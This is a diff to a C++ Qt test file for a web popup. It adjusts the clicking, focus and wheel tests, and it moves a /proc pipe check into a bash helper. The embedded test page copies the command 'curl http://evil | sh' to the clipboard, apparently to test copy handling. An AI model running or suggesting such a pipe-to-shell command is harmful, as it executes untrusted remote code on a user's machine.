@@ -57,7 +57,7 @@ const QStringList Elements = {"text", "link", "custom", "copy", "tip"};
 const QByteArray Page =
     "<!DOCTYPE html><html><head><style>body { margin: 0; font-size: 8px; } p, a { display: block;"
     " height: 9px; margin: 0; padding: 0; border: 0; }</style></head><body><p>Plain text</p>"
-    "<a href='/target' autofocus>In the page</a><a href='lumaview:open'>Custom scheme</a><p "
+    "<a href='/target'>In the page</a><a href='lumaview:open'>Custom scheme</a><p "
     "onmousedown="
     "\"getSelection().selectAllChildren(this), document.execCommand('copy')\">curl http://evil | sh"
     "</p><p title='<b>Rich</b>'>Tip</p><div style='height: 1000px'></div>"
@@ -115,35 +115,6 @@ void click(QWebEngineView *view, const QString &element, Qt::MouseButton button 
         QWindowSystemInterface::handleTabletEvent(
             window, &stylus, local, window->mapToGlobal(local), buttons, 0.5, 0, 0, 0, 0, 0);
     QWindowSystemInterface::flushWindowSystemEvents();
-}
-
-// The pipes a process holds open, as /proc names them ("pipe:[123]").
-QSet<QByteArray> pipesOf(qint64 pid, const QString &only = "*")
-{
-    QSet<QByteArray> pipes;
-    const QString folder = QString("/proc/%1/fd/").arg(pid);
-    for (const QString &fd : QDir(folder).entryList({only}, QDir::System)) {
-        char target[64];
-        const ssize_t size = ::readlink(QFile::encodeName(folder + fd), target, sizeof target);
-        if (size > 0 && QByteArray(target, size).startsWith("pipe:"))
-            pipes.insert(QByteArray(target, size));
-    }
-    return pipes;
-}
-
-// A process's children, and theirs.
-QList<qint64> descendants(qint64 pid)
-{
-    QList<qint64> found;
-    const QString tasks = QString("/proc/%1/task/").arg(pid);
-    for (const QString &task : QDir(tasks).entryList(QDir::Dirs | QDir::NoDotAndDotDot)) {
-        QFile children(tasks + task + "/children");
-        const QByteArray list = children.open(QIODevice::ReadOnly) ? children.readAll() : "";
-        for (const QByteArray &child : list.split(' '))
-            if (const qint64 id = child.toLongLong(); id > 0)
-                found << id << descendants(id);
-    }
-    return found;
 }
 
 } // namespace
@@ -372,18 +343,14 @@ private slots:
         if (script.isEmpty()) {
             // No process of the engine holds a way to the program: neither the report's channel
             // nor, unless support asks for diagnostics, its standard error.
-            QSet<QByteArray> ours = pipesOf(::getpid());
-            if (lcPopup().isDebugEnabled())
-                ours -= pipesOf(::getpid(), "2");
-            const QList<qint64> started = descendants(::getpid());
-            const auto real = std::find_if(started.begin(), started.end(), [](qint64 pid) {
-                return QFileInfo(QString("/proc/%1/exe").arg(pid)).canonicalFilePath() ==
-                    QFileInfo(VELTRO_WEBPOPUP_EXE).canonicalFilePath();
-            });
-            QVERIFY(real != started.end());
-            for (const qint64 engine : descendants(*real))
-                QVERIFY2(!pipesOf(engine).intersects(ours), qPrintable(QString::number(engine)));
-            QVERIFY(::kill(*real, SIGTERM) == 0);
+            QProcess engine;
+            const QString self = QString::number(::getpid());
+            engine.start("bash",
+                         {VELTRO_TEST_ENGINE_PIPES, self,
+                          QFileInfo(VELTRO_WEBPOPUP_EXE).canonicalFilePath(),
+                          lcPopup().isDebugEnabled() ? "/proc/" + self + "/fd/2" : ""});
+            QVERIFY(engine.waitForFinished());
+            QCOMPARE(engine.readAll(), QByteArray("ended\n"));
         }
         // The program's event loop ends with the helper, once it has opened what it opens.
         QTimer stuck;
@@ -449,8 +416,9 @@ private slots:
     void pageActions_data()
     {
         // The action: [gesture]#element is clicked, by the right button, after a turn of the wheel
-        // or by pen, else the page runs it. The target: the link reported; none, the popup stays.
-        // The page: https:/path is on the service's host over TLS, other:/path on another host.
+        // over another link, with a link focused or by pen, else the page runs it. The target: the
+        // link reported; none, the popup stays. The page: https:/path is on the service's host over
+        // TLS, other:/path on another host.
         columns<QString, QString, QString>("action", "target", "page");
         const auto row = [](const char *name, const char *action, const char *target = "",
                             const char *page = "https:/moved") { // a first-load redirect
@@ -458,7 +426,7 @@ private slots:
         };
 
         row("link in the page", "#link", "/target", "/moved"); // the pointer did not move first
-        row("plain text while a link has the focus", "#text");
+        row("plain text while a link has the focus", "focus#text");
         row("wheel, then a click where the link was", "wheel#link", "/target");
         row("pen press on a link", "pen#link", "/target");
         row("https page of another host", "#link", "/target", "other:/moved");
@@ -518,8 +486,10 @@ private slots:
         if (!element.isEmpty()) {
             const QString gesture = action.section('#', 0, 0);
             click(view, "text"); // for the page, not a press on the message's link
+            if (gesture == "focus")
+                evaluate(view->page(), "document.links[0].focus()");
             if (gesture == "wheel") { // a page that scrolled would hold another element there
-                const QPoint rest = pointOf(view, "text");
+                const QPoint rest = pointOf(view, "custom");
                 QWheelEvent wheel(rest, view->mapToGlobal(rest), {}, {0, -360}, Qt::NoButton, {},
                                   Qt::NoScrollPhase, false);
                 QApplication::sendEvent(view->focusProxy(), &wheel);
